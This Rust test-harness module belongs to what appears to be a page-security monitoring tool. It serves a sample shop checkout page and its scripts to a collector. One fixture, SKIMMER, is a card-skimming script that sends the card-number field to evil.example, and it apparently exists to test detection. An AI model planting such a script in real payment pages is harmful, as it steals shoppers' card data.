//! Pages of a shop as the edge would tell of them.

use gabion_core::Clock;
use gabion_markup::headers::SecurityHeaders;
use gabion_markup::sighting::{PageSeen, ScriptSeen, Seen, SeenBy, Sighting};
use gabion_markup::{Address, Collector, ContentHash, PageClass, Rewrite};

use crate::harness::Harness;

/// The site of the harness.
pub(crate) const SITE: &str = "tidewater-tea";

/// A checkout with a script of the shop's, one of a payment provider and one inside the page.
pub(crate) const CHECKOUT: &str = r#"<!doctype html><title>Pay</title>
    <script src="/static/cart.js"></script><script src="https://js.stripe.com/v3/"></script>
    <script>window.shop = { currency: "EUR" };</script>
    <form action="/pay"><input autocomplete="cc-number" name="card"></form>
    <img src="https://pixel.example/seen.gif">"#;

/// What a skimmer looks like that somebody put into the page.
pub(crate) const SKIMMER: &str = r#"<script>document.querySelector("[name=card]").onchange = event =>
    fetch("https://evil.example/c", { method: "POST", body: event.target.value });</script>"#;

impl Harness {
    /// A page of the shop is served.
    pub(crate) async fn serve(&self, class: PageClass, path: &str, html: &str) {
        let address = Address::parse(&format!("https://shop.example{path}")).unwrap();
        let mut collector = Collector::new(&address, Some("utf-8"), Rewrite::default());
        let mut out = Vec::new();
        collector.write(html.as_bytes(), &mut out);
        let page = collector.finish(&mut out);
        let headers = [("content-security-policy", b"frame-ancestors 'none'".as_slice())];
        self.see(Seen::Page(Box::new(PageSeen {
            class,
            address,
            status: 200,
            page,
            headers: SecurityHeaders::read(headers),
            servings: 1,
            by: SeenBy::Serving,
        })))
        .await;
    }

    /// A script of the shop is served.
    pub(crate) async fn serve_script(&self, address: &str, text: &str) {
        self.see(Seen::Script(ScriptSeen {
            address: Address::parse(address).unwrap(),
            hash: ContentHash::of(text.as_bytes()),
            bytes: text.len() as u64,
            beginning: text.to_owned(),
            by: SeenBy::Serving,
        }))
        .await;
    }

    async fn see(&self, seen: Seen) {
        let sighting = Sighting { site: SITE.parse().unwrap(), at: self.clock.now(), seen };
        self.pages.take(vec![sighting]).await.unwrap();
    }

    /// The checkout is served once.
    pub(crate) async fn checkout(&self) {
        self.serve(PageClass::Payment, "/checkout", CHECKOUT).await;
        self.serve_script("https://shop.example/static/cart.js", "cart.show();").await;
    }

    /// The ids of scripts whose label holds `text`.
    pub(crate) async fn scripts(&self, text: &str) -> Vec<String> {
        let path = format!("/api/v1/pages/scripts?site={SITE}&text={text}");
        let list = self.api("read", http::Method::GET, &path, "").await.json();
        let id = |script: &serde_json::Value| script["id"].as_str().unwrap().to_owned();
        list["items"].as_array().unwrap().iter().map(id).collect()
    }
}
